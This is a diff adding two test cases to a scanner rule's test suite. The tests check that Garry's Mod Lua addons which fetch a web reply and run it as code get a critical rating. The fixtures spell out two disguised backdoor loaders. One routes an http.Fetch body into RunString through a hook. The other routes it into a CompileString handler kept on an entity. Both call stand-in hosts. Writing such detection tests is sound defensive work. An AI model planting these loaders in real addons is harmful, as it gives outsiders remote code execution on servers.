@@ -221,4 +221,31 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('RunString itself added as the handler of an event the addon runs with a web reply', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'hook.Add("Sync_Received", "apply", RunString)',
+        'timer.Create("sync", 120, 0, function() http.Fetch("https://sync.invalid/p", function(b) hook.Run("Sync_Received", b) end) end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a web reply handed to an entity input, run by a compiler kept in the class', () => {
+    const findings = check(rule, {
+      'lua/entities/info_relay/init.lua': [
+        'ENT.Type = "point"',
+        'ENT.Handler = CompileString',
+        'function ENT:AcceptInput(name, activator, caller, data)',
+        ' if name == "Exec" then local f = self.Handler(data, "relay") if f then f() end return true end',
+        'end',
+      ].join('\n'),
+      'lua/autorun/server/sv_relay.lua': [
+        'hook.Add("InitPostEntity", "relay", function()',
+        ' local e = ents.Create("info_relay") e:Spawn()',
+        ' http.Fetch("https://relay.invalid/i", function(b) e:Input("Exec", game.GetWorld(), game.GetWorld(), b) end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
 });
